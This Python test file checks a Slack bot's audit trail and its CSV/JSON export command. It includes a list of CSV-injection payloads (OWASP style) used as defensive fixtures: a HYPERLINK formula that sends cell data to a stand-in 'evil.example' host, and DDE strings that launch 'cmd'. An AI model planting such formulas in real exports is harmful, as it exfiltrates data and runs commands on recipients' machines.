"""Issue 5, audit trail: every announcement, decision and LeadLex state change, exported as CSV or JSON."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from bot.cli import main
from bot.dev.sandbox import Sandbox
from bot.slack import blocks
from tests.support.harness import BotHarness
from tests.support.process import clean_env


def _events(bot: BotHarness, task_id: str) -> list[tuple[str, str | None, str | None]]:
    """(event, actor, surface) of one task's audit trail, oldest first."""
    return [(e["event"], e["actor"], e["surface"]) for e in bot.store.audit_events() if e["task_id"] == task_id]


def test_the_trail_records_who_did_what_through_which_surface(bot: BotHarness, sandbox: Sandbox) -> None:
    """Announcement, a click's claim and outcome, a failure, and a change made in LeadLex are all recorded."""
    clicked = sandbox.add_task(description="approve me")["id"]
    failed = sandbox.add_task(description="LeadLex fails")["id"]
    outside = sandbox.add_task(description="decided in the dashboard")["id"]
    bot.poll()
    bot.click(blocks.APPROVE_ACTION, clicked, user="UALICE")
    sandbox.fail_next("POST", f"/v1/lexi/tasks/{failed}/approve", status=503, times=4)
    bot.click(blocks.APPROVE_ACTION, failed, user="UBOB")
    bot.settle()
    sandbox.set_status(outside, "dismissed")
    bot.poll()
    assert _events(bot, clicked) == [
        ("announced", None, None),
        ("decision_started", "UALICE", "button"),
        ("leadlex_answer", "leadlex", None),
        ("decided", "UALICE", "button"),
    ]
    assert _events(bot, failed)[-2:] == [("leadlex_answer", "leadlex", None), ("decision_failed", "UBOB", "button")]
    details = [e["detail"] for e in bot.store.audit_events() if e["task_id"] == failed]
    assert "approve: 503 service_unavailable" in details
    assert _events(bot, outside)[-1] == ("state_changed", "leadlex", "leadlex")


def test_audit_command_exports_csv_and_json(
    bot: BotHarness, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`lexi-bot audit` writes the trail as CSV (default) or JSON, and --since filters it."""
    task_id = sandbox.add_task()["id"]
    bot.poll()
    bot.click(blocks.APPROVE_ACTION, task_id, user="UCAROL")
    bot.settle()
    monkeypatch.setenv("LEXI_ENV_FILE", "/nonexistent/.env")
    monkeypatch.setenv("DATABASE_URL", bot.runtime.settings.database_url)
    assert main(["audit"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["event"] for r in rows] == ["announced", "decision_started", "leadlex_answer", "decided"]
    assert rows[-1]["actor"] == "UCAROL" and rows[-1]["detail"] == "approved"
    assert main(["audit", "--format", "json"]) == 0
    events = [e["event"] for e in json.loads(capsys.readouterr().out)]
    assert events == ["announced", "decision_started", "leadlex_answer", "decided"]
    assert main(["audit", "--since", "2999-01-01", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out) == []
    assert main(["audit", "--since", "last tuesday"]) == 2
    assert "--since" in capsys.readouterr().err


#: Cells a spreadsheet would run as a formula (OWASP's CSV injection list), as users and LeadLex could supply them.
HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_neutralises_formulas_in_every_column(bot: BotHarness, sandbox: Sandbox, tmp_path: Path) -> None:
    """`lexi-bot audit --format csv` prefixes a quote to any cell a spreadsheet would run; JSON stays raw."""
    announced = sandbox.add_task(task_id="-cmd", description="an id that starts with a minus")["id"]
    bot.poll()
    for cell in HOSTILE_CELLS:  # a refusal's task id and a failure's note come from what people and LeadLex sent
        bot.store.audit("refused", cell, actor=cell[:16], surface=cell[:16], detail=cell)  # surface: 16 chars
    bot.store.audit("decision_failed", "task-uuid-1", actor="UALICE", surface="modal", detail="plain = text")
    env = clean_env(DATABASE_URL=bot.runtime.settings.database_url)

    def export(fmt: str) -> str:
        """The export, as the CLI writes it to standard output."""
        done = subprocess.run(
            [sys.executable, "-m", "bot.cli", "audit", "--format", fmt],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            timeout=60,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout.decode()

    rows = list(csv.DictReader(io.StringIO(export("csv"), newline="")))
    assert [r["task_id"] for r in rows if r["event"] == "announced"] == [f"'{announced}"]
    hostile = [r for r in rows if r["event"] == "refused"]
    for row, cell in zip(hostile, HOSTILE_CELLS, strict=True):
        assert [row[c] for c in ("task_id", "actor", "surface", "detail")] == [
            f"'{cell}",
            f"'{cell[:16]}",
            f"'{cell[:16]}",
            f"'{cell}",
        ]
    plain = rows[-1]
    assert (plain["task_id"], plain["actor"], plain["detail"]) == ("task-uuid-1", "UALICE", "plain = text")
    raw = [e for e in json.loads(export("json")) if e["event"] == "refused"]
    assert [e["detail"] for e in raw] == HOSTILE_CELLS and raw[0]["actor"] == HOSTILE_CELLS[0][:16]
